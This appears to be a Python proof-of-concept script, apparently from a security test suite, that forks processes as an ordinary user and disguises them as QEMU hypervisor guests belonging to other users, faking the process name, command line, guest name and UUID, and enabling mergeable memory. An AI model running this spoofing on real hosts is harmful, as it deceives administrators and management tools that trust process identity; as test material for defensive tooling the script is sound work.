"""Has processes that call themselves guests of others, as an ordinary user.

    spoof_names.py UID COUNT

Each process has the name and the command line of a hypervisor, another user's guest among its arguments, and mergeable
memory. It begins another program of the same kind every three seconds, so that it is looked at again. Each PID is printed. All
end with the standard input.
"""

import os
import sys

from attacker import PR_SET_MEMORY_MERGE, become, die_with_parent, end_with_input, libc

# What each process runs: /bin/sh under the name of a hypervisor.
AGAIN = 'printf qemu-system-x86 > /proc/$$/comm; read -t 3 line; exec -a "$0" "$SHELL" -c "$AGAIN" "$0" "$@"'


def child(user, number):
    become(user)
    die_with_parent()
    # Mergeable memory, which the next program keeps. A kernel without it (before 6.4) shows the names all the same.
    libc.prctl(PR_SET_MEMORY_MERGE, 1, 0, 0, 0)
    uuid = f"00000000-0000-4000-8000-{number:012d}"
    # A standard input that has nothing and does not end.
    wait, keep = os.pipe()
    os.dup2(wait, 0)
    os.set_inheritable(keep, True)
    line = ["/usr/bin/qemu-system-x86_64", "-c", AGAIN, "/usr/bin/qemu-system-x86_64"]
    line += ["-name", f"guest=other-{number},debug-threads=on", "-uuid", uuid]
    os.execve("/bin/bash", line, {"AGAIN": AGAIN, "SHELL": "/bin/bash"})


def main():
    user, count = int(sys.argv[1]), int(sys.argv[2])
    for number in range(count):
        pid = os.fork()
        if pid == 0:
            child(user, number)
        print(pid, flush=True)
    end_with_input()


main()
